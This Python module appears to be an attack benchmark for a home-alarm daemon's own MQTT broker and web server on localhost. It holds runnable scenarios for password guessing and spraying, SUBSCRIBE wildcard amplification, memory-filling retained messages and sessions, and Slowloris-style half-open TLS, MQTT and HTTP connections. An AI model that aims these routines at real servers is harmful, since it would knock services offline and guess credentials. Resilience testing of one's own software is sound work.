"""Attacks on the MQTT door: guessing, subscribing, filling the memory, and sockets that say nothing."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import random
import ssl
from collections.abc import AsyncIterator, Coroutine, Sequence
from typing import Any, Final

from alarmd.door.packets import V5, V311, Connect, Request
from alarmd.door.wire import Properties
from bench.attacks.shape import CHEAP, Attack, Target, attack
from tests.support.mqtt import connect_bytes, publish_bytes, subscribe_bytes

Peer = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@contextlib.asynccontextmanager
async def meanwhile(*work: Coroutine[Any, Any, None]) -> AsyncIterator[None]:
    """While this is entered, that is done, over and over as it wishes."""
    tasks = [asyncio.create_task(one) for one in work]
    try:
        yield
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def _guess(target: Target, name: str, *, from_address: str = "127.0.0.1") -> None:
    """One wrong password, and whatever the answer is."""
    with contextlib.suppress(OSError, TimeoutError):
        async with asyncio.timeout(70):
            reader, writer = await asyncio.open_connection("127.0.0.1", target.door, local_addr=(from_address, 0))
            try:
                wrong = f"guess {random.random()}".encode()  # noqa: S311 - any guess will do
                connect = Connect(
                    version=V311, client_id="guesser", clean=True, keep_alive=60, user=name, password=wrong
                )
                writer.write(connect_bytes(connect))
                await reader.read(64)
            finally:
                writer.transport.abort()


async def _guess_on(target: Target, a_second: float, names: int, *, from_address: str = "127.0.0.1") -> None:
    """So many guesses a second, whether they are answered or not."""
    under_way: set[asyncio.Task[None]] = set()
    for number in itertools.count():
        task = asyncio.create_task(_guess(target, f"d{number % names}", from_address=from_address))
        under_way.add(task)
        task.add_done_callback(under_way.discard)
        await asyncio.sleep(1 / a_second)


@attack("a trickle of wrong passwords", number=2)
async def trickle(target: Target) -> AsyncIterator[None]:
    """Seven wrong logins a second, of one name."""
    async with meanwhile(_guess_on(target, 7, 1)):
        await asyncio.sleep(3)
        yield


@attack("wrong passwords for every button", number=2)
async def spray(target: Target) -> AsyncIterator[None]:
    """Sixty wrong logins a second from two other addresses, of names that exist and of others."""
    guessing = (
        _guess_on(target, 50, 1_000, from_address="127.0.0.2"),
        _guess_on(target, 10, 50, from_address="127.0.0.3"),
    )
    async with meanwhile(*guessing):
        await asyncio.sleep(3)
        yield


@attack("the same from the buttons' own address", number=2)
async def spray_inside(target: Target) -> AsyncIterator[None]:
    """Fifty a second behind the address behind which the buttons are, too: before the hash nothing tells them apart."""
    async with meanwhile(_guess_on(target, 50, 1_000)):
        await asyncio.sleep(3)
        yield


@attack("guesses at a cheap hash", number=2)
async def cheap(target: Target) -> AsyncIterator[None]:
    """As many as come through in sixteen connections at a time, of a user whose hash has 101 rounds, and of nobody."""

    async def guess_on(name: str) -> None:
        while True:
            await _guess(target, name)

    async with meanwhile(*(guess_on(name) for name in (CHEAP, "nobody") for _ in range(8))):
        await asyncio.sleep(3)
        yield


async def login(target: Target, client_id: str, user: str, *, clean: bool = True) -> Peer:
    """A connection with a stolen password, under MQTT 5."""
    secure = None
    if target.tls:
        secure = ssl.create_default_context()
        secure.check_hostname, secure.verify_mode = False, ssl.CERT_NONE
    reader, writer = await asyncio.open_connection("127.0.0.1", target.door, ssl=secure)
    expiry = Properties(session_expiry=None if clean else 3600)
    connect = Connect(
        version=V5,
        client_id=client_id,
        clean=clean,
        keep_alive=600,
        user=user,
        password=target.users[user].encode(),
        properties=expiry,
    )
    writer.write(connect_bytes(connect))
    await reader.read(64)
    return reader, writer


async def swallow(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(1 << 20):
            pass


async def write_on(target: Target, name: str, packets: Sequence[bytes], *, pause: float, user: str) -> None:
    """Send these over and over, coming back whenever the door hangs up."""
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await login(target, name, user)
            swallowing = asyncio.create_task(swallow(reader))
            for packet in itertools.cycle(packets):
                writer.write(packet)
                await writer.drain()
                await asyncio.sleep(pause)
                if swallowing.done():
                    break
            writer.transport.abort()
        await asyncio.sleep(pause)


@attack("a SUBSCRIBE that repeats one filter", number=5)
async def repeating(target: Target) -> AsyncIterator[None]:
    """38 kB of the same filter, again and again, with messages retained under it."""
    reader, writer = await login(target, "retaining", "gateway")
    for number in range(target.part_of(2_000)):
        writer.write(publish_bytes(V5, f"zigbee2mqtt/x/{number}", b"." * 100, retain=True))
    await writer.drain()
    many = subscribe_bytes(V5, 1, [Request("zigbee2mqtt/#", 1)] * 2_300, Properties())
    some = subscribe_bytes(V5, 1, [Request("zigbee2mqtt/#", 1)] * 200, Properties())
    async with meanwhile(
        swallow(reader),
        write_on(target, "repeating", [many], pause=0.1, user="gateway"),
        write_on(target, "repeating some", [some], pause=0.1, user="gateway"),
    ):
        await asyncio.sleep(2)
        yield


@attack("a thousand filters that all match", number=5)
async def branching(target: Target) -> AsyncIterator[None]:
    """Filters of many levels with wildcards in other places, in several sessions, and messages that match them all."""
    depth = 24
    wild = [
        "zigbee2mqtt/" + "/".join("+" if number >> at & 1 else "a" for at in range(depth)) for number in range(1, 1_001)
    ]
    peers = [await login(target, f"branching {n}", "gateway") for n in range(4)]
    for _, writer in peers:
        for start in range(0, len(wild), 200):
            requests = [Request(one, 0) for one in wild[start : start + 200]]
            writer.write(subscribe_bytes(V5, start + 1, requests, Properties()))
        await writer.drain()
    topic = "zigbee2mqtt/" + "/".join(["a"] * depth)
    message = publish_bytes(V5, topic, b"x", qos=1, packet_id=1) * 20
    async with meanwhile(
        *(swallow(reader) for reader, _ in peers),
        write_on(target, "matching", [message], pause=0.02, user="gateway"),
    ):
        await asyncio.sleep(2)
        yield


@attack("memory that was not counted", number=6)
async def filling(target: Target) -> AsyncIterator[None]:
    """Retained messages full of properties, long filters, queues of many absent sessions, wills, and slow readers."""
    pairs = Properties(user=tuple(("k" * 400, "v" * 400) for _ in range(60)))
    reader, writer = await login(target, "filling", "gateway")
    swallowing = asyncio.create_task(swallow(reader))
    for number in range(target.part_of(5_000)):  # a fifth of them fills what one user may have
        topic = f"zigbee2mqtt/{number}/" + "/".join("x" * 100)
        writer.write(publish_bytes(V5, topic, b"x", retain=True, properties=pairs))
        await writer.drain()
    for number in range(target.part_of(1_000)):
        absent, its = await login(target, f"absent {number}", "gateway", clean=False)
        filters = [Request(f"zigbee2mqtt/{n}/" + "y" * 900, 1) for n in range(50)]
        its.write(subscribe_bytes(V5, 1, [Request("zigbee2mqtt/queued", 1), *filters], Properties()))
        await absent.read(64)
        its.transport.abort()
    message = publish_bytes(V5, "zigbee2mqtt/queued", b"." * 100_000, qos=1, packet_id=1)
    async with meanwhile(write_on(target, "queueing", [message], pause=0.01, user="gateway")):
        await asyncio.sleep(2)
        yield
    swallowing.cancel()


@attack("sessions of one user", number=6)
async def crowding(target: Target) -> AsyncIterator[None]:
    """Sessions that last, of one password, each under another name."""

    async def crowd() -> None:
        for number in itertools.count():
            with contextlib.suppress(OSError):
                _, writer = await login(target, f"crowd {number}", "gateway", clean=False)
                writer.transport.abort()

    async with meanwhile(*(crowd() for _ in range(4))):
        await asyncio.sleep(2)
        yield


async def _open(port: int, say: bytes) -> asyncio.StreamWriter | None:
    try:
        _, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        return None
    writer.write(say)
    return writer


async def hold(port: int, say: Sequence[bytes], count: int) -> None:
    """So many connections that begin like that and say nothing more; those that are closed are opened again."""
    held: list[asyncio.StreamWriter] = []
    sayings = itertools.cycle(say)
    while True:
        held = [writer for writer in held if not writer.transport.is_closing()]
        opened = await asyncio.gather(*(_open(port, next(sayings)) for _ in range(min(50, count - len(held)))))
        held += [writer for writer in opened if writer is not None]
        await asyncio.sleep(0.02)


HELLO: Final = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"." * 100
"""The begin of a TLS handshake that is not gone on with."""


@attack("half-open TLS", number=7, tls=True)
async def half_open(target: Target) -> AsyncIterator[None]:
    """Thousands of sockets, some silent and some in the middle of a handshake."""
    async with meanwhile(hold(target.door, [b"", HELLO], target.part_of(8_000))):
        await asyncio.sleep(3)
        yield


@attack("connections without a CONNECT", number=7)
async def silent(target: Target) -> AsyncIterator[None]:
    """Thousands of sockets at the door, silent, or with half a CONNECT of the largest size."""
    half = b"\x10\x80\x80\x07" + b"\0\4MQTT\5\xc2\0\0\0" + b"." * 100_000
    async with meanwhile(hold(target.door, [b"", half], target.part_of(8_000))):
        await asyncio.sleep(3)
        yield


@attack("slow HTTP", number=7)
async def slow_http(target: Target) -> AsyncIterator[None]:
    """Connections to the web server that are idle, send a head line by line, or a body byte by byte."""
    port = int(target.web.rpartition(":")[2])
    says = [
        b"",
        b"GET / HTTP/1.1\r\nHost: x\r\nX-A: ",
        b"POST /phone/x HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n.",
    ]
    async with meanwhile(hold(port, says, target.part_of(10_000))):
        await asyncio.sleep(3)
        yield


ATTACKS: Final[tuple[Attack, ...]] = (
    trickle,
    spray,
    spray_inside,
    cheap,
    repeating,
    branching,
    filling,
    crowding,
    half_open,
    silent,
    slow_http,
)
